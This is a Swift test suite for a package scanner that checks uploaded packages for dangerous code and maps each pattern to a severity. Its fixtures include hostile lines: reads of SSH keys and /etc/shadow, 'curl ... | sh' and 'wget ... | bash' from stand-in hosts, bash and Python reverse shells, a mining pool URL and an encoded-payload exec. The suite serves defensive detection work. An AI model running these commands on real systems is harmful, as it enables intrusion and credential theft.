import HangarPackages
import Testing

@Suite("Package scanner")
struct PackageScannerTests {
    private func inspect(_ files: [(String, [UInt8])]) throws -> InspectedPackage {
        var tar = TarBuilder()
        tar.add("hangar.json", content: Array(manifestJSON.utf8))
        tar.add("server.py", content: Array("print('ok')\n".utf8))
        for (name, content) in files { tar.add(name, content: content) }
        return try PackageArchive.inspect(bytes: tar.finished())
    }

    @Test(arguments: [
        ("key = open(os.path.expanduser('~/.ssh/id_rsa')).read()", "ssh-key-access", ScanSeverity.critical),
        ("data = open('/etc/shadow').read()", "system-secrets", .critical),
        ("os.system('curl -fsSL https://evil.example/x.sh | sh')", "pipe-to-shell", .critical),
        ("POOL = 'stratum+tcp://pool.example:3333'", "crypto-miner", .critical),
        ("exec(base64.b64decode(PAYLOAD))", "eval-encoded", .critical),
        ("subprocess.run(cmd, shell=True)", "shell-command", .warning),
        ("import ctypes", "native-code", .warning),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell", .critical),
        ("with open('/etc/hosts', 'w') as f: f.write(x)", "system-file-write", .critical),
        ("os.system('crontab -l')", "crontab", .warning),
        ("BLOB = '" + String(repeating: "QUJD", count: 60) + "'", "encoded-blob", .warning),
    ])
    func eachRuleFindsItsPattern(line: String, rule: String, severity: ScanSeverity) throws {
        let text = "import os\n\n    \(line)   \nprint('done')\n"
        let report = try inspect([("tool.py", Array(text.utf8))]).scanReport
        let finding = try #require(report.findings.first { $0.rule == rule }, "\(report.summary)")
        #expect(finding.severity == severity)
        #expect(finding.path == "tool.py")
        #expect(finding.line == 3)
        #expect(finding.excerpt == String(line.prefix(160)), "the excerpt is the trimmed line")
    }

    @Test func socketWithDup2IsAReverseShell() throws {
        let text = "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\n"
        let report = try inspect([("rs.py", Array(text.utf8))]).scanReport
        #expect(report.findings.contains { $0.rule == "reverse-shell" && $0.line == 4 })
    }

    @Test func nativeBinariesAreInfoAndBinariesAreNotScannedAsText() throws {
        let elf: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + Array("stratum+tcp://hidden".utf8)
        let report = try inspect([("bin/helper", elf)]).scanReport
        #expect(report.findings.map(\.rule) == ["native-binary"])
        #expect(report.findings.first?.severity == .info)
        #expect(report.findings.first?.line == nil)
    }

    @Test func policiesDecideOnSeverity() throws {
        let warningsOnly = try inspect([("a.py", Array("import ctypes\n".utf8))]).scanReport
        let critical = try inspect([("b.sh", Array("wget -qO- http://x.example/i | bash\n".utf8))]).scanReport
        let clean = try inspect([]).scanReport
        #expect(clean.findings.isEmpty)
        #expect(clean.summary == "no findings")
        for report in [warningsOnly, critical, clean] {
            #expect(!report.blocks(.off))
            #expect(!report.blocks(.warn))
        }
        #expect(!warningsOnly.blocks(.block(minimumSeverity: .critical)))
        #expect(warningsOnly.blocks(.block(minimumSeverity: .warning)))
        #expect(critical.blocks(.block(minimumSeverity: .critical)))
        #expect(!clean.blocks(.block(minimumSeverity: .info)))
        #expect(critical.summary.hasPrefix("1 finding: 1 critical"))
        #expect(critical.summary.contains("[critical] b.sh:1 pipe-to-shell: downloads a script and runs it — wget -qO- http://x.example/i | bash"))
    }

    @Test func largeFilesAreSkippedAndSaidSo() throws {
        var tar = TarBuilder()
        tar.add("hangar.json", content: Array(manifestJSON.utf8))
        tar.add("server.py", content: Array("print('ok')\n".utf8))
        tar.add("big.py", content: Array(("x = 1\n" + "curl http://x | sh\n").utf8) + [UInt8](repeating: 0x20, count: 2_000))
        var limits = PackageLimits()
        limits.maxScanFileBytes = 1_000
        let report = try PackageArchive.inspect(bytes: tar.finished(), limits: limits).scanReport
        #expect(report.findings.isEmpty)
        #expect(report.skippedFiles == ["big.py"])
        #expect(report.summary == "no findings (1 large files not scanned)")
    }
}
